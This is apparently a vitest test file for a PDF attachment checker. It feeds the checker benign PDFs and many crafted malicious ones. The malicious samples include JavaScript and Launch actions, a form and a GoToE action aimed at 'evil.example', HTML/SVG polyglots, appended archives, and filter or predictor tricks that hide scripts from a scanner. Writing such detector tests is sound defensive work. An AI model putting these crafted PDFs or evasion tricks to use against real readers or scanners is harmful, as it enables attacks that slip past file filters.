import { deflateSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { checkPdf } from './check-pdf.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
const HEX = Buffer.from(SCRIPT).toString('hex');
/** As a predictor of PNG has it: a byte before every four. */
const ROWS = SCRIPT.replace(/.{1,4}/g, '\0$&');
const BODY = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n';
const pdf = (body: string | Buffer = BODY, tail = '%%EOF\n') =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(body), Buffer.from(`trailer << /Root 1 0 R >>\n${tail}`)]);
const objects = (content: string | Buffer, dictionary = '/Type /ObjStm /Filter /FlateDecode', word = 'stream\n') =>
  Buffer.concat([
    Buffer.from(`3 0 obj\n<< ${dictionary} >>\n${word}`),
    deflateSync(content),
    Buffer.from('\nendstream\nendobj\n'),
  ]);

it.each<[string, Buffer]>([
  ['a document', pdf()],
  ['compressed objects', pdf(objects('<< /Type /Page >>'))],
  ['a picture that is not compressed with zlib', pdf('<< /Filter /DCTDecode >>\nstream\n\xff\xd8\xff\nendstream\n')],
  [
    'bookmarks before it',
    pdf('<< /First 5 0 R >>\nendobj\n<< /Filter /DCTDecode >>\nstream\n\xff\xd8\xff\nendstream\n'),
  ],
  [
    'a table of references',
    pdf(objects('\x01\x02', '/Type /XRef /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
  ],
  [
    'a picture behind compressed objects',
    pdf(
      Buffer.concat([
        objects('<< /Type /Page >>'),
        Buffer.from('4 0 obj\n<< /Filter /DCTDecode >>\nstream\n\xff\nendstream\n'),
      ]),
    ),
  ],
  ['the words in a compressed text', pdf(objects('(JavaScript)', '/Length 9'))],
])('takes %s', async (_, bytes) => {
  await expect(checkPdf(bytes)).resolves.toBeUndefined();
});

it.each<[string, Buffer]>([
  ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a head that comes later', Buffer.concat([Buffer.from('PK\x03\x04'), pdf()])],
  ['an archive behind it', Buffer.concat([pdf(), Buffer.from('PK\x05\x06')])],
  ['no end', pdf(BODY, '')],
  ['a page inside', pdf('%<html><script>alert(1)</script>\n')],
  ['a drawing inside', pdf('%<svg onload=alert(1)>\n')],
  ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
  ['a script by the numbers of its letters', pdf('<< /S /J#61vaScript >>')],
  ['a program to start', pdf('<< /S /Launch /F (calc.exe) >>')],
  ['a file inside', pdf('<< /Type /EmbeddedFile >>')],
  ['a form that sends', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['encryption', pdf('<< /Encrypt 5 0 R >>')],
  ['a script in compressed objects', pdf(objects('<< /S /JavaScript >>'))],
  ['a script in compressed objects that do not say so', pdf(objects('<< /S /JavaScript >>', ''))],
  ['objects packed in another way', pdf('<< /Type /ObjStm /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream\n')],
  ['an archive whose comment is its end', pdf(`PK\x05\x06${'\0'.repeat(18)}`)],
  ['an archive of another kind', pdf('Rar!\x1a\x07\x00')],
  ['a page elsewhere that it asks for', pdf('<< /S /GoToE /F (\\\\\\\\evil.example\\\\x) >>')],
  ['a form of markup behind a comment', pdf('<< /XFA%\n5 0 R >>')],
  [
    'objects behind a long dictionary',
    pdf(objects(HEX, `/Type /ObjStm /Pad (${'x'.repeat(3_000)}) /Filter [/FlateDecode /ASCIIHexDecode]`)),
  ],
  ['objects that are packed twice', pdf(objects(HEX, '/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]'))],
  ['objects whose packing stands elsewhere', pdf(objects(HEX, '/Type /ObjStm /Filter 9 0 R'))],
  [
    'objects that a predictor took apart',
    pdf(objects(ROWS, '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>')),
  ],
  ['objects that do not say what they are', pdf(objects(HEX, '/N 1 /First 4 /Filter [/FlateDecode /ASCIIHexDecode]'))],
  ['objects after a word with a blank', pdf(objects(SCRIPT, '/Type /ObjStm /Filter /FlateDecode', 'stream \n'))],
  [
    'objects after a word with an old end of its line',
    pdf(objects(SCRIPT, '/Type /ObjStm /Filter /FlateDecode', 'stream\r')),
  ],
  [
    'objects packed in another way behind an end that is none',
    pdf('<< /Type /ObjStm /X (\nendobj\n) /Filter /LZWDecode >>\nstream\n\x80\x0b\nendstream\n'),
  ],
  ['more objects than are looked through', pdf(objects(' '.repeat(5_000_000)))],
])('refuses %s', async (_, bytes) => {
  await expect(checkPdf(bytes)).rejects.toThrow('attachment_pdf');
});

it.each(['stream ', 'stream\n', 'endstream', '/First ', '/Filter ', 'stream\nx', 'stream\nx^', '#'])(
  'is not kept busy by many a "%s"',
  async (word) => {
    const startedMs = performance.now();
    await checkPdf(pdf(word.repeat(8_000_000 / word.length))).catch(() => undefined);
    expect(performance.now() - startedMs).toBeLessThan(8_000);
  },
);
